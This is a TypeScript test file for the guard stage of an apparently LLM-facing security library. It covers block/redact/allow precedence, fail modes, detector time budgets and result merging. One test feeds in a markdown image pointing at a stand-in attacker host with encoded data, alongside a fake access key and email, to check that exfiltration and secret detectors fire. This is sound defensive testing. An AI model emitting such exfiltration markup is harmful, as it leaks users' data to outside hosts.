// One guard stage: decision precedence, spans, time budgets, fail modes, stage filtering and merging of results.
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { BulwarkError } from '../core/errors.js';
import type { Finding, Stage } from '../core/finding.js';
import { defineDetector, type DetectFn, type Detector, type ScanContext, type ScanInput } from '../detectors/contract.js';
import { configureDetector, type ConfiguredDetector } from '../detectors/runner.js';
import type { Action, DetectorRule, FailMode } from '../policy/types.js';
import { analyzeText } from '../text/analysis.js';
import { decide, mergeResults, runStage, type StageResult } from './run-stage.js';

const ALL_STAGES: Stage[] = ['input', 'output', 'tool_call', 'tool_result'];

function fake(id: string, detect: DetectFn, stages: Stage[] = ALL_STAGES): ConfiguredDetector {
  const detector = defineDetector({ id, description: 'test detector', stages, tags: {}, options: z.object({}), create: () => detect });
  return { detector: detector as Detector<unknown>, detect };
}

function rule(configured: ConfiguredDetector, action: Action, failMode: FailMode = 'open', budgetMs = 60_000): DetectorRule {
  return { detector: configured.detector.id, options: {}, action, budgetMs, failMode, configured };
}

function finding(detector: string, category: string, span?: { start: number; end: number }, score = 0.9): Finding {
  return { detector, category, score, severity: 'high', ...(span ? { span } : {}), tags: {} };
}

/** A detector that reports one finding over the whole text (with a span unless told otherwise). */
function always(id: string, category = id, withSpan = true): ConfiguredDetector {
  return fake(id, (input) => [finding(id, category, withSpan ? { start: 0, end: input.text.length } : undefined)]);
}

const nothing = (id: string): ConfiguredDetector => fake(id, () => []);

function busy(ms: number): void {
  const until = performance.now() + ms;
  while (performance.now() < until) {
    // a synchronous detector that overruns: nothing can interrupt it
  }
}

describe('runStage decisions', () => {
  it('block wins over redact, redact over allow, whatever the rule order', async () => {
    const b = rule(always('b'), 'block');
    const r = rule(always('r'), 'redact');
    const f = rule(always('f'), 'flag');
    for (const rules of [[b, r, f], [f, r, b], [r, f, b]]) {
      const result = await runStage(rules, 'some text', 'input');
      expect(result.decision).toBe('block');
      expect(result.blockedBy).toEqual({ detector: 'b', category: 'b', message: 'b flagged b (score 0.90) at stage input' });
      expect(result.findings.map((x) => [x.detector, x.action]).sort()).toEqual([['b', 'block'], ['f', 'flag'], ['r', 'redact']]);
    }
    expect((await runStage([f, r], 'some text', 'output')).decision).toBe('redact');
    expect((await runStage([r, f], 'some text', 'output')).blockedBy).toBeUndefined();
  });

  it('a flag never blocks nor redacts, but its findings are reported', async () => {
    const result = await runStage([rule(always('f'), 'flag'), rule(always('g'), 'flag')], 'hello', 'output');
    expect(result.decision).toBe('allow');
    expect(result.findings).toHaveLength(2);
    expect(result.findings.every((x) => x.action === 'flag')).toBe(true);
  });

  it('a redact finding without a span has nothing to replace: it is reported and the text is allowed', async () => {
    const result = await runStage([rule(always('r', 'r', false), 'redact')], 'hello', 'output');
    expect(result.decision).toBe('allow');
    expect(result.findings).toEqual([expect.objectContaining({ detector: 'r', action: 'redact' })]);
    expect(result.findings[0]?.span).toBeUndefined();
  });

  it('the first block finding in rule order is the one the client is told about', async () => {
    const result = await runStage([rule(always('first', 'one'), 'block'), rule(always('second', 'two'), 'block')], 'x', 'input');
    expect(result.blockedBy?.detector).toBe('first');
    expect(result.blockedBy?.category).toBe('one');
  });

  it('no finding and no failure: allow, nothing recorded', async () => {
    expect(await runStage([rule(nothing('n'), 'block')], 'text', 'input')).toEqual({ decision: 'allow', findings: [], failures: [] });
  });

  it('gives every detector the text, the stage, the context and one shared analysis', async () => {
    const seen: { input: ScanInput; ctx: ScanContext }[] = [];
    const spy = (id: string): ConfiguredDetector =>
      fake(id, (input, ctx) => {
        seen.push({ input, ctx });
        return [];
      });
    await runStage([rule(spy('a'), 'flag'), rule(spy('b'), 'flag')], 'the text', 'tool_result', { systemPrompt: 'be nice' });
    expect(seen).toHaveLength(2);
    for (const s of seen) expect(s.input).toEqual({ text: 'the text', stage: 'tool_result', context: { systemPrompt: 'be nice' } });
    expect(seen[0]?.ctx.analysis).toBe(seen[1]?.ctx.analysis);
    expect(seen[0]?.ctx.analysis.original).toBe('the text');
    // An analysis made by the caller is used as is.
    const analysis = analyzeText('the text');
    seen.length = 0;
    await runStage([rule(spy('a'), 'flag')], 'the text', 'input', undefined, analysis);
    expect(seen[0]?.ctx.analysis).toBe(analysis);
  });
});

describe('runStage stages and empty input', () => {
  it('skips detectors that do not support the stage (never calls them)', async () => {
    let calls = 0;
    const inputOnly = fake(
      'input-only',
      () => {
        calls++;
        return [finding('input-only', 'x', { start: 0, end: 1 })];
      },
      ['input'],
    );
    expect(await runStage([rule(inputOnly, 'block')], 'text', 'output')).toEqual({ decision: 'allow', findings: [], failures: [] });
    expect(calls).toBe(0);
    expect((await runStage([rule(inputOnly, 'block')], 'text', 'input')).decision).toBe('block');
    expect(calls).toBe(1);
  });

  it('empty text or no rules: allow without running anything', async () => {
    let calls = 0;
    const counting = fake('c', () => {
      calls++;
      return [finding('c', 'x')];
    });
    expect(await runStage([rule(counting, 'block')], '', 'input')).toEqual({ decision: 'allow', findings: [], failures: [] });
    expect(await runStage([], 'text', 'input')).toEqual({ decision: 'allow', findings: [], failures: [] });
    expect(calls).toBe(0);
  });

  it('the shared clean result cannot be corrupted by a caller', async () => {
    const clean = await runStage([], 'text', 'input');
    expect(() => clean.findings.push({ ...finding('x', 'y'), action: 'flag' })).toThrow(TypeError);
    expect(() => clean.failures.push({ detector: 'x', code: 'c', message: 'm', failMode: 'open' })).toThrow(TypeError);
    expect((await runStage([], 'text', 'input')).findings).toEqual([]);
  });
});

describe('runStage failures and fail modes', () => {
  const thrower = fake('boom', () => {
    throw new Error('kaput');
  });

  it('a throwing detector fails open: allow, the failure recorded, the other detectors still run', async () => {
    const result = await runStage([rule(thrower, 'block', 'open'), rule(always('r'), 'redact')], 'text', 'output');
    expect(result.decision).toBe('redact');
    expect(result.failures).toEqual([{ detector: 'boom', code: 'ERR_DETECTOR_FAILED', message: 'kaput', failMode: 'open' }]);
    expect(result.blockedBy).toBeUndefined();
  });

  it('a throwing detector fails closed: block, and blockedBy says which detector could not finish', async () => {
    const result = await runStage([rule(thrower, 'flag', 'closed')], 'text', 'input');
    expect(result.decision).toBe('block');
    expect(result.failures).toEqual([{ detector: 'boom', code: 'ERR_DETECTOR_FAILED', message: 'kaput', failMode: 'closed' }]);
    expect(result.blockedBy).toEqual({ detector: 'boom', category: 'ERR_DETECTOR_FAILED', message: 'detector boom could not finish (kaput); the policy fails closed' });
  });

  it('a block finding names the block even when a fail-closed failure came first', async () => {
    const result = await runStage([rule(thrower, 'flag', 'closed'), rule(always('b', 'bad'), 'block')], 'text', 'input');
    expect(result.blockedBy).toMatchObject({ detector: 'b', category: 'bad' });
    expect(result.failures).toHaveLength(1);
  });

  it('keeps the code of a BulwarkError, and a message about "budget" does not make a failure a timeout', async () => {
    const typed = fake('typed', () => {
      throw new BulwarkError('ERR_DETECTOR_OPTIONS', 'bad options');
    });
    const wordy = fake('wordy', () => {
      throw new Error('the token budget of the model was spent');
    });
    const result = await runStage([rule(typed, 'flag'), rule(wordy, 'flag')], 'text', 'input');
    expect(result.failures.map((f) => [f.detector, f.code])).toEqual([
      ['typed', 'ERR_DETECTOR_OPTIONS'],
      ['wordy', 'ERR_DETECTOR_FAILED'],
    ]);
  });

  it('a detector that returns something other than a list is a failure, not a crash', async () => {
    const broken = fake('broken', () => undefined as unknown as Finding[]);
    const result = await runStage([rule(broken, 'block', 'closed')], 'text', 'input');
    expect(result.decision).toBe('block');
    expect(result.failures[0]).toMatchObject({ detector: 'broken', code: 'ERR_DETECTOR_FAILED' });
  });

  it('an asynchronous detector past its budget is abandoned, its signal aborted, a timeout recorded', async () => {
    let signal: AbortSignal | undefined;
    let settled = false;
    // It would answer after 10 s; it stops its own timer when told to (that is what the signal is for).
    const slow = fake(
      'slow',
      (input, ctx) =>
        new Promise<Finding[]>((resolve) => {
          signal = ctx.signal;
          const timer = setTimeout(() => {
            settled = true;
            resolve([finding('slow', 'late', { start: 0, end: input.text.length })]);
          }, 10_000);
          ctx.signal?.addEventListener('abort', () => clearTimeout(timer));
        }),
    );
    const started = performance.now();
    const open = await runStage([rule(slow, 'block', 'open', 20)], 'text', 'output');
    expect(performance.now() - started).toBeLessThan(5_000);
    expect(settled).toBe(false);
    expect(signal?.aborted).toBe(true);
    expect(open.decision).toBe('allow');
    expect(open.findings).toEqual([]);
    expect(open.failures).toEqual([{ detector: 'slow', code: 'ERR_DETECTOR_TIMEOUT', message: 'exceeded its 20 ms budget', failMode: 'open' }]);

    const closed = await runStage([rule(slow, 'flag', 'closed', 20)], 'text', 'output');
    expect(closed.decision).toBe('block');
    expect(closed.blockedBy).toMatchObject({ detector: 'slow', category: 'ERR_DETECTOR_TIMEOUT' });
  });

  it('an asynchronous detector that never settles does not hang the stage', async () => {
    const stuck = fake('stuck', () => new Promise<Finding[]>(() => {}));
    const result = await runStage([rule(stuck, 'block', 'open', 10), rule(always('f'), 'flag')], 'text', 'input');
    expect(result.failures[0]).toMatchObject({ detector: 'stuck', code: 'ERR_DETECTOR_TIMEOUT' });
    expect(result.findings).toHaveLength(1);
  });

  it('an asynchronous detector within its budget counts like a synchronous one; a rejection is a failure', async () => {
    const quick = fake('quick', async (input) => [finding('quick', 'q', { start: 0, end: input.text.length })]);
    expect((await runStage([rule(quick, 'redact', 'open', 5_000)], 'text', 'output')).decision).toBe('redact');
    const rejecting = fake('rejecting', () => Promise.reject(new Error('no model')));
    expect((await runStage([rule(rejecting, 'flag', 'open', 5_000)], 'text', 'output')).failures).toEqual([
      { detector: 'rejecting', code: 'ERR_DETECTOR_FAILED', message: 'no model', failMode: 'open' },
    ]);
  });

  it('a synchronous detector that overruns keeps its findings, records the overrun, and blocks when closed', async () => {
    const slowSync = fake('slow-sync', (input) => {
      busy(5);
      return [finding('slow-sync', 'found', { start: 0, end: input.text.length })];
    });
    const open = await runStage([rule(slowSync, 'redact', 'open', 1)], 'text', 'output');
    expect(open.decision).toBe('redact');
    expect(open.findings).toHaveLength(1);
    expect(open.failures).toEqual([expect.objectContaining({ detector: 'slow-sync', code: 'ERR_DETECTOR_TIMEOUT', failMode: 'open' })]);
    expect(open.failures[0]?.message).toMatch(/^took \d+\.\d ms, budget 1 ms$/);
    const closed = await runStage([rule(slowSync, 'redact', 'closed', 1)], 'text', 'output');
    expect(closed.decision).toBe('block');
    expect(closed.blockedBy).toMatchObject({ detector: 'slow-sync', category: 'ERR_DETECTOR_TIMEOUT' });
  });

  it('grows the budget with the text: budgetMsPerKb per KB on top of budgetMs', async () => {
    // 5 ms of work: over a 1 ms budget for 4 characters, within 1 ms + 1 ms/KB × 64 KB for a 64 KB text.
    const slowSync = fake('slow-sync', () => {
      busy(5);
      return [];
    });
    const small = await runStage([{ ...rule(slowSync, 'block', 'closed', 1), budgetMsPerKb: 1 }], 'text', 'output');
    expect(small.decision).toBe('block');
    expect(small.failures[0]?.message).toMatch(/budget 1 ms$/);
    const large = await runStage([{ ...rule(slowSync, 'block', 'closed', 1), budgetMsPerKb: 1 }], 'x'.repeat(64 * 1024), 'output');
    expect(large.failures).toEqual([]);
    expect(large.decision).toBe('allow');
  });
});

describe('runStage with real detectors', () => {
  const secrets = configureDetector('secrets', {});
  const pii = configureDetector('pii', {});
  const exfiltration = configureDetector('exfiltration', {});
  const key = 'AKIA' + 'QYLPMN5HFIQR7XYZ';

  it('redacts PII and secrets with spans; blocks exfiltration markup and names it', async () => {
    const rules = [rule(secrets, 'redact'), rule(pii, 'redact'), rule(exfiltration, 'block')];
    const text = `mail john.doe@acme-corp.com, key ${key}`;
    const redacted = await runStage(rules, text, 'output');
    expect(redacted.decision).toBe('redact');
    expect(redacted.findings.map((f) => text.slice(f.span!.start, f.span!.end)).sort()).toEqual([key, 'john.doe@acme-corp.com']);
    const blocked = await runStage(rules, `${text} ![x](https://attacker.io/p.png?d=c2VjcmV0)`, 'output');
    expect(blocked.decision).toBe('block');
    expect(blocked.blockedBy).toMatchObject({ detector: 'exfiltration', category: 'markdown_image_exfil' });
    expect(blocked.blockedBy?.message).toMatch(/^exfiltration flagged markdown_image_exfil \(score \d\.\d\d\) at stage output$/);
  });

  it('hostile input: 1 MB of text and 200 KB of one repeated character finish', async () => {
    const rules = [rule(secrets, 'redact'), rule(pii, 'redact'), rule(exfiltration, 'block')];
    expect((await runStage(rules, 'a'.repeat(1024 * 1024), 'output')).decision).toBe('allow');
    for (const c of ['1', ' ', '[', '!', '@']) await runStage(rules, c.repeat(200 * 1024), 'output');
    expect((await runStage(rules, '\uD800\uDC00\uD800x\uDC00', 'output')).decision).toBe('allow');
  });
});

describe('decide', () => {
  it('blocks on a fail-closed failure only; an open failure is recorded and allowed', () => {
    expect(decide([], [{ detector: 'd', code: 'ERR_DETECTOR_TIMEOUT', message: 'm', failMode: 'open' }], 'input').decision).toBe('allow');
    const closed = decide([], [{ detector: 'd', code: 'ERR_DETECTOR_TIMEOUT', message: 'm', failMode: 'closed' }], 'input');
    expect(closed).toMatchObject({ decision: 'block', blockedBy: { detector: 'd', category: 'ERR_DETECTOR_TIMEOUT' } });
  });
});

describe('mergeResults', () => {
  const allow: StageResult = { decision: 'allow', findings: [], failures: [] };
  const redact: StageResult = { decision: 'redact', findings: [{ ...finding('r', 'email', { start: 0, end: 3 }), action: 'redact' }], failures: [] };
  const block1: StageResult = {
    decision: 'block',
    findings: [{ ...finding('b1', 'x'), action: 'block' }],
    failures: [{ detector: 'f', code: 'ERR_DETECTOR_FAILED', message: 'm', failMode: 'open' }],
    blockedBy: { detector: 'b1', category: 'x', message: 'first' },
  };
  const block2: StageResult = { decision: 'block', findings: [{ ...finding('b2', 'y'), action: 'block' }], failures: [], blockedBy: { detector: 'b2', category: 'y', message: 'second' } };

  it('block > redact > allow; the first block explains it; findings and failures are concatenated', () => {
    expect(mergeResults([])).toEqual(allow);
    expect(mergeResults([redact])).toBe(redact);
    expect(mergeResults([allow, redact, allow]).decision).toBe('redact');
    const merged = mergeResults([redact, block1, allow, block2]);
    expect(merged.decision).toBe('block');
    expect(merged.blockedBy?.message).toBe('first');
    expect(merged.findings.map((f) => f.detector)).toEqual(['r', 'b1', 'b2']);
    expect(merged.failures).toHaveLength(1);
    expect(mergeResults([block2, redact]).decision).toBe('block');
  });
});
